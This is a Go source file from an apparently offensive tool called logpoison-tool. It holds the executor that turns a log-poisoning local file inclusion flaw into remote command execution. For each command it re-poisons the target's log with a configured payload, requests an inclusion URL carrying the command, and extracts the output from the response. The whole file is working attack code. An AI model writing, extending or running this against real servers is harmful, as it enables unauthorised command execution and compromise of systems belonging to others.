package executor

import (
	"context"
	"fmt"

	"github.com/logpoison-tool/internal/config"
	"github.com/logpoison-tool/internal/extract"
	"github.com/logpoison-tool/internal/logger"
	"github.com/logpoison-tool/internal/poison"
	"github.com/logpoison-tool/internal/transport"
	"github.com/logpoison-tool/pkg/utils"
)

// State of the poison -> include -> extract cycle
type State int

const (
	StateIdle State = iota
	StatePoisoned
	StateAwaitingOutput
)

func (s State) String() string {
	switch s {
	case StateIdle:
		return "idle"
	case StatePoisoned:
		return "poisoned"
	case StateAwaitingOutput:
		return "awaiting-output"
	default:
		return fmt.Sprintf("state(%d)", int(s))
	}
}

// Failure strings returned in place of command output
const (
	MsgRepoisonFailed = "Failed to re-poison log"
)

// Stats counts round trips made by an Executor
type Stats struct {
	Poisons    int
	Executions int
	Failures   int
}

// Executor runs commands through a poisoned log. The log is re-poisoned
// before every command since rotation or truncation may have dropped the
// payload since the previous one.
type Executor struct {
	transport transport.Transport
	strategy  poison.Strategy
	target    string
	param     string
	logPath   string
	config    *config.Config
	log       logger.Logger

	state State
	stats Stats
}

// New creates a new command executor for logPath
func New(t transport.Transport, strategy poison.Strategy, target, param, logPath string, cfg *config.Config, log logger.Logger) *Executor {
	return &Executor{
		transport: t,
		strategy:  strategy,
		target:    target,
		param:     param,
		logPath:   logPath,
		config:    cfg,
		log:       log.WithField("log", logPath),
		state:     StateIdle,
	}
}

// Execute poisons the log, includes it with the command appended and
// returns the extracted output or a description of what failed
func (e *Executor) Execute(ctx context.Context, command string) string {
	defer func() { e.state = StateIdle }()

	// Idle -> Poisoned
	e.stats.Poisons++
	if !e.strategy.Poison(ctx, e.target, e.param, e.logPath, e.config.Exploit.Payload) {
		e.stats.Failures++
		e.log.Debug("Re-poisoning failed", "method", e.strategy.Method())
		return MsgRepoisonFailed
	}
	e.state = StatePoisoned

	// Poisoned -> AwaitingOutput
	execURL := e.ExecURL(command)
	e.state = StateAwaitingOutput
	e.stats.Executions++

	resp, err := e.transport.Get(ctx, execURL, e.config.DefaultHeaders())
	if err != nil {
		e.stats.Failures++
		e.log.Debug("Execution request failed", "command", command, "error", err)
		return fmt.Sprintf("Error executing command: %v", err)
	}

	// AwaitingOutput -> Idle
	if !resp.OK() {
		e.stats.Failures++
		return fmt.Sprintf("Request failed with status: %d", resp.StatusCode)
	}

	e.log.Debug("Command executed", "command", command, "bytes", len(resp.Body))
	return extract.Parse(resp.Body, command, e.config.Exploit.MaxOutputLines)
}

// ExecURL builds the inclusion URL carrying command
func (e *Executor) ExecURL(command string) string {
	return fmt.Sprintf("%s&%s=%s",
		utils.BuildInclusionURL(e.target, e.param, e.logPath),
		e.config.Exploit.CommandParam,
		utils.Quote(command))
}

// State returns the current state of the cycle
func (e *Executor) State() State {
	return e.state
}

// Stats returns the round trips made so far
func (e *Executor) Stats() Stats {
	return e.stats
}
